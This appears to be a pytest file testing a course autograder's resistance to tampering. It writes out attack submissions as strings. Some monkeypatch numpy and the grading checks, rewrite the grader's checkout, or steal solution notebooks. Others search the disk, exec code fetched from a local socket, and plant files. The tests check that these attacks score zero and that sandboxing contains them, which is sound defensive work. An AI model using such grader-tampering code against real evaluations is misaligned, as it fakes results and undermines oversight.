"""Submissions that try to fool coursekit.grade on exercise 01 score nothing.

Each one returns zeros of the right shape from every function (worth 0 of
8 points) and attacks the checks another way: numpy's comparisons replaced,
the check functions shadowed, patched in their module, their code swapped,
or the course checkout's `coursekit/checks/` rewritten for the students
graded after it.  The grader runs from a copy of the course (its own
`rnnlib`, `coursekit` and `solutions/`), so the last attack is real and the
test can show that the copy ends exactly as it began.

The class is graded twice: unisolated (`--isolation off`, as a grader
without root runs), and isolated (`--isolation required`, coursekit.sandbox),
where more submissions try to get out: they read the solutions or a
classmate's work, search the disk, fetch the answers over the network, use
root's rights, and leave files behind.  Each of those would score 8 of 8 if
it got out.  Isolation needs root on Linux: elsewhere the isolated tests
skip, saying why, unless COURSEKIT_REQUIRE_ISOLATION is set (as CI sets it).
"""

import csv
import hashlib
import os
import shutil
import socket
import subprocess
import sys
import threading
import uuid
from pathlib import Path

import pytest

from coursekit import sandbox
from coursekit.exercises import make_exercise
from coursekit.notebooks import grade_id, load_source, read_notebook, write_notebook

ROOT = Path(__file__).resolve().parents[1]
EXERCISE = "01_forward_propagation_exercises"

ZEROS = {  # right shapes, wrong values: every part's test must fail
    "rnn_step_forward": (
        "def rnn_step_forward(x_t, h_prev, W_hx, W_hh, b_h):\n"
        "    return np.zeros((x_t.shape[0], W_hh.shape[0]))"
    ),
    "rnn_forward": (
        "def rnn_forward(x, h0, W_hx, W_hh, b_h):\n"
        "    return np.zeros((x.shape[0], x.shape[1], W_hh.shape[0]))"
    ),
    "concat_weights": (
        "def concat_weights(W_hh, W_hx):\n"
        "    return np.zeros((W_hh.shape[0], W_hh.shape[1] + W_hx.shape[1]))"
    ),
    "rnn_step_forward_concat": (
        "def rnn_step_forward_concat(x_t, h_prev, W_h, b_h):\n"
        "    return np.zeros((x_t.shape[0], W_h.shape[0]))"
    ),
}
CHECKS = ("check_array", "check_not_calling", "check_upstream")

ATTACKS = {
    "zeros": "",
    "numpy": (
        "for name in ('allclose', 'array_equal', 'isclose', 'all', 'any'):\n"
        "    setattr(np, name, lambda *a, **k: True)\n"
        "np.testing.assert_allclose = lambda *a, **k: None"
    ),
    "shadowed": "\n".join(f"def {name}(*a, **k):\n    pass" for name in CHECKS),
    "patched": (
        "import coursekit.checks\n"
        + "\n".join(
            f"coursekit.checks.{n} = {n} = lambda *a, **k: None" for n in CHECKS
        )
    ),
    "code_swapped": "\n".join(
        f"{name}.__code__ = (lambda *a, **k: None).__code__" for name in CHECKS
    ),
    # rewrites the checkout's checks (and its own copy) for everyone after it
    "rewrites_checkout": (
        "import coursekit.checks\n"
        "evil = '\\n' + '\\n'.join(f'def {n}(*a, **k):\\n    pass' for n in CHECKS)\n"
        "for path in (CHECKOUT, coursekit.checks.__file__):\n"
        "    with open(path, 'a') as f:\n"
        "        f.write(evil)\n"
        "import importlib\n"
        "importlib.reload(coursekit.checks)"
    ),
    "graded_after": "",
}


# Only isolation stops these.  Each runs after the zeros in every solution
# cell and, if it gets out, defines the solved functions over them.
STEAL = """
import json, os
def steal(path):
    try:
        with open(path, encoding='utf-8') as f:
            cells = json.load(f)['cells']
    except (OSError, ValueError):
        return
    for cell in cells:
        if cell['metadata'].get('nbgrader', {}).get('solution'):
            exec(''.join(cell['source']), globals())
"""
ESCAPES = {
    "reads_solutions": "steal(SOLUTIONS)",
    "reads_classmate": "steal(CLASSMATE)",
    "searches_disk": (
        "for top in ('/tmp', '/var/tmp', '/dev/shm', '/root', '/home', '/work',\n"
        "            '/opt', '/srv', '/mnt', '/var', '/run'):\n"
        "    found = [os.path.join(f, NAME) for f, _, n in os.walk(top) if NAME in n]\n"
        "    for path in sorted(found, key=lambda p: 'solutions' in p):\n"
        "        steal(path)  # the solutions last: they win"
    ),
    "network": (
        "import socket\n"
        "try:\n"
        "    with socket.create_connection(('127.0.0.1', PORT), timeout=2) as s:\n"
        "        exec(s.makefile(encoding='utf-8').read(), globals())\n"
        "except OSError:\n"
        "    pass"
    ),
    "uses_root": "if os.geteuid() == 0 or os.getuid() == 0:\n    exec(SOLVED, globals())",
    "leaves_files": (
        "for path in LEAKS:\n"
        "    try:\n"
        "        with open(path, 'w') as f:\n"
        "            f.write('planted')\n"
        "    except OSError:\n"
        "        pass"
    ),
}


# Unisolated, these get out (the proof that the attacks are real); the others
# would plant files or search the whole disk.
SHOWN_UNISOLATED = ("reads_solutions", "reads_classmate", "network", "uses_root")


def solved_code(course: Path) -> str:
    """The solution cells of exercise 01, as one program."""
    nb = load_source(course / "solutions" / f"{EXERCISE}.ipynb")
    cells = [c for c in nb.cells if c.metadata.get("nbgrader", {}).get("solution")]
    return "\n\n".join(c.source for c in cells)


def submission(attack: str, course: Path, fill: dict):
    nb = make_exercise(load_source(course / "solutions" / f"{EXERCISE}.ipynb"))
    code = ATTACKS.get(attack, "")
    escape = (STEAL + ESCAPES[attack]) if attack in ESCAPES else ""
    for name, value in {"CHECKS": CHECKS, **fill}.items():
        code, escape = (
            code.replace(name, repr(value)),
            escape.replace(name, repr(value)),
        )
    for cell in nb.cells:
        gid = grade_id(cell)
        if gid in ZEROS:
            # the attack sits in the first solution cell, before the tests run
            first = gid == "rnn_step_forward"
            cell.source = ((code + "\n\n") if first and code else "") + ZEROS[gid]
            cell.source += ("\n\n" + escape) if escape else ""
    return nb


def digest(folder: Path) -> dict:
    return {
        str(p.relative_to(folder)): hashlib.sha256(p.read_bytes()).hexdigest()
        for p in sorted(folder.rglob("*"))
        if p.is_file() and "__pycache__" not in p.parts
    }


def serve(text: str):
    """A TCP server on 127.0.0.1 that sends `text` to each caller, and a list
    that records the calls."""
    server = socket.create_server(("127.0.0.1", 0))
    calls = []

    def answer():
        while True:
            try:
                conn, _ = server.accept()
            except OSError:  # closed
                return
            calls.append(conn)
            with conn:
                conn.sendall(text.encode())

    threading.Thread(target=answer, daemon=True).start()
    return server, calls


@pytest.fixture(scope="module", params=["off", "isolated"])
def graded(request, tmp_path_factory):
    isolated = request.param == "isolated"
    if isolated and sandbox.unavailable_reason():
        reason = f"no isolation here: {sandbox.unavailable_reason()}"
        if os.environ.get("COURSEKIT_REQUIRE_ISOLATION"):
            pytest.fail(reason + " (COURSEKIT_REQUIRE_ISOLATION is set)")
        pytest.skip(reason)
    base = tmp_path_factory.mktemp(f"tampering-{request.param}")
    course = base / "course"
    ignore = shutil.ignore_patterns("__pycache__")
    for name in ("rnnlib", "coursekit"):
        shutil.copytree(ROOT / name, course / name, ignore=ignore)
    (course / "solutions").mkdir()
    shutil.copy(ROOT / "solutions" / f"{EXERCISE}.ipynb", course / "solutions")
    subs = base / "class"
    token = uuid.uuid4().hex
    leaks = [
        f"/tmp/coursekit-leak-{token}",
        f"/var/tmp/coursekit-leak-{token}",
        f"/dev/shm/coursekit-leak-{token}",
        str(subs / "solved" / "planted.txt"),
        str(course / "planted.txt"),
    ]
    server, calls = serve(solved_code(course))
    fill = {
        "CHECKOUT": str(course / "coursekit" / "checks" / "__init__.py"),
        "SOLUTIONS": str(course / "solutions" / f"{EXERCISE}.ipynb"),
        "CLASSMATE": str(subs / "solved" / f"{EXERCISE}.ipynb"),
        "NAME": f"{EXERCISE}.ipynb",
        "PORT": server.getsockname()[1],
        "SOLVED": solved_code(course),
        "LEAKS": leaks,
    }
    attacks = [*ATTACKS, *(ESCAPES if isolated else SHOWN_UNISOLATED)]
    solved = read_notebook(course / "solutions" / f"{EXERCISE}.ipynb")
    for name in [*attacks, "solved"]:
        (subs / name).mkdir(parents=True)
        nb = solved if name == "solved" else submission(name, course, fill)
        write_notebook(nb, subs / name / f"{EXERCISE}.ipynb")
    before = {"course": digest(course), "class": digest(subs)}

    order = [subs / name / f"{EXERCISE}.ipynb" for name in [*attacks, "solved"]]
    mode = "required" if isolated else "off"
    try:
        run = subprocess.run(
            [sys.executable, "-m", "coursekit.grade", *map(str, order),
             "--source", "solutions", "--out", str(base / "gradebook.csv"),
             "--jobs", "1", "--timeout", "120", "--cell-timeout", "30",
             "--isolation", mode],
            cwd=course, capture_output=True, text=True, timeout=600,
            env={**os.environ, "PYTHONPATH": str(course)},  # the copy's coursekit
        )  # fmt: skip
    finally:
        server.close()
    assert run.returncode == 0, run.stdout + run.stderr
    with open(base / "gradebook.csv", newline="", encoding="utf-8") as f:
        rows = {row["student"]: row for row in csv.DictReader(f)}
    yield {
        "rows": rows, "before": before, "course": course, "subs": subs,
        "isolated": isolated, "leaks": leaks, "calls": calls, "stderr": run.stderr,
    }  # fmt: skip
    for path in leaks:  # should a leak test fail, leave nothing behind
        Path(path).unlink(missing_ok=True)


def test_an_honest_solution_still_scores_full_marks(graded):
    solved = graded["rows"]["solved"]
    assert (solved["total"], solved["max_total"], solved["status"]) == ("8", "8", "ok")


@pytest.mark.parametrize("attack", list(ATTACKS))
def test_tampering_scores_zero(graded, attack):
    row = graded["rows"][attack]
    assert row["status"] == "ok", row["message"]
    assert row["total"] == "0", row


def test_the_rewritten_checkout_is_put_back_and_named(graded):
    assert digest(graded["course"]) == graded["before"]["course"]
    message = graded["rows"]["rewrites_checkout"]["message"]
    if graded["isolated"]:  # the checkout was out of reach: nothing to put back
        assert "put back" not in message
    else:
        assert "coursekit/checks/__init__.py" in message and "put back" in message
    assert graded["rows"]["graded_after"]["message"] == ""


def test_submissions_are_left_as_they_were(graded):
    assert digest(graded["subs"]) == graded["before"]["class"]


@pytest.mark.parametrize("graded", ["isolated"], indirect=True)
@pytest.mark.parametrize("escape", list(ESCAPES))
def test_an_isolated_submission_cannot_get_out(graded, escape):
    row = graded["rows"][escape]
    assert (row["status"], row["total"]) == ("ok", "0"), row


@pytest.mark.parametrize("graded", ["isolated"], indirect=True)
def test_an_isolated_submission_leaves_nothing_behind(graded):
    assert [p for p in graded["leaks"] if os.path.exists(p)] == []
    assert graded["calls"] == []  # the network attack never got through
    assert "unisolated" not in graded["stderr"]


@pytest.mark.parametrize("graded", ["off"], indirect=True)
@pytest.mark.parametrize("escape", SHOWN_UNISOLATED)
def test_unisolated_the_same_submission_gets_out(graded, escape):
    row = graded["rows"][escape]
    root = os.geteuid() == 0
    expected = "0" if escape == "uses_root" and not root else "8"
    assert (row["status"], row["total"]) == ("ok", expected), row
    if escape == "network":
        assert len(graded["calls"]) >= 1
